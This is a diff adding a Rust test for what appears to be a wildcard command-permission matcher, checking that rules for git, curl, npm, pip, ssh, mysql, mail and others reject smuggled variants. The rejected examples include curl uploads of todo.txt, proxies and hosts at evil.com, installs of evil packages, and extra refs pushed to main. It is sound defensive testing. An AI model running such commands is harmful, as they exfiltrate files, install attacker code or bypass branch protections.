@@ -768,3 +768,73 @@ fn a_child_with_a_star_of_its_own_leads_nowhere_else() {
         assert!(covers(outer, inner), "{outer} does not cover {inner}");
     }
 }
+
+/// The same faults in other spellings: clusters, attached values, and the marks that a rule has itself.
+#[test]
+fn other_spellings_lead_nowhere_else() {
+    families(&[
+        (
+            "git push origin bot/*:bot/*",
+            &["git push origin bot/x:bot/y", "git push origin bot/x:bot/y bot/z:bot/z"],
+            &["git push origin bot/x:bot/y HEAD:main"],
+        ),
+        ("git push origin v*.*", &["git push origin v1.0"], &["git push origin v1.0 main"]),
+        (
+            "git push --delete origin bot/*/*",
+            &["git push --delete origin bot/x/y"],
+            &["git push --delete origin bot/x/y main"],
+        ),
+        ("git branch -Dq bot/*", &["git branch -Dq bot/x"], &["git branch -Dq bot/x main"]),
+        ("git branch --del bot/*", &["git branch --del bot/x"], &["git branch --del bot/x main"]),
+        ("git branch -dr origin/bot/*", &["git branch -dr origin/bot/x"], &["git branch -dr origin/bot/x origin/main"]),
+        ("git clone https://h/acme/.*", &["git clone https://h/acme/.x"], &["git clone https://h/acme/../x"]),
+        ("docker run -v /srv/.*:/d img", &["docker run -v /srv/.x:/d img"], &["docker run -v /srv/..:/d img"]),
+        (
+            "curl -sx *.acme.com:3128 https://h/x",
+            &["curl -sx p.acme.com:3128 https://h/x"],
+            &["curl -sx evil.com/.acme.com:3128 https://h/x"],
+        ),
+        (
+            "curl -sxproxy*.acme.com https://h/x",
+            &["curl -sxproxy1.acme.com https://h/x"],
+            &["curl -sxproxy@evil/.acme.com https://h/x"],
+        ),
+        (
+            "curl --proxy=http://proxy.acme.com* https://h/x",
+            &["curl --proxy=http://proxy.acme.com https://h/x"],
+            &["curl --proxy=http://proxy.acme.com.evil.com https://h/x"],
+        ),
+        (
+            "curl -F note* https://h/x",
+            &[],
+            &["curl -F note=@todo.txt https://h/x", "curl -F note=<todo.txt https://h/x"],
+        ),
+        (
+            "curl -F file=@out/* https://h/x",
+            &["curl -F file=@out/a https://h/x"],
+            &["curl -F file=@out/a,todo.txt https://h/x"],
+        ),
+        ("kubectl apply -fdeploy/*", &["kubectl apply -fdeploy/a/b.yml"], &["kubectl apply -fdeploy/x,mine.yaml"]),
+        ("ssh -vJbastion* host uptime", &["ssh -vJbastion1 host uptime"], &["ssh -vJbastion,evil host uptime"]),
+        ("mysql -Nh *.acme.com app", &["mysql -Nh db.acme.com app"], &["mysql -Nh evil.com,x.acme.com app"]),
+        ("gh api x -Fbody=*", &["gh api x -Fbody=well,␣me@x"], &["gh api x -Fbody=@todo.txt"]),
+        ("gh api x --field=body=*", &["gh api x --field=body=well"], &["gh api x --field=body=@todo.txt"]),
+        (
+            "npm install acme-*",
+            &["npm install acme-x@1.2"],
+            &["npm install acme-evil.tgz", "npm install acme-x@evil.tgz"],
+        ),
+        ("npx @acme/*", &["npx @acme/x"], &["npx @acme/x@evil.tgz"]),
+        (
+            "pip install acme-*",
+            &["pip install acme-x==1.0"],
+            &["pip install acme-evil.tar.gz", "pip install acme-1.0-py3-none-any.whl"],
+        ),
+        ("pipx install acme-*", &["pipx install acme-x"], &["pipx install acme-x@npm:evil"]),
+        ("pipx run acme*", &["pipx run acme-x"], &["pipx run acme-evil.py"]),
+        ("mail -s hi *@acme.com", &["mail -s hi ada@acme.com"], &["mail -s hi evil@evil.com,x@acme.com"]),
+        ("deno add jsr:@std/*", &["deno add jsr:@std/path"], &["deno add jsr:@std/x@npm:evil"]),
+        ("deno run https://esm.sh/*", &["deno run https://esm.sh/x@1.0/mod.ts"], &[]),
+        ("scp out/*.tgz web:in/", &["scp out/a.tgz web:in/"], &["scp out/a.tgz todo.txt out/b.tgz web:in/"]),
+    ]);
+}
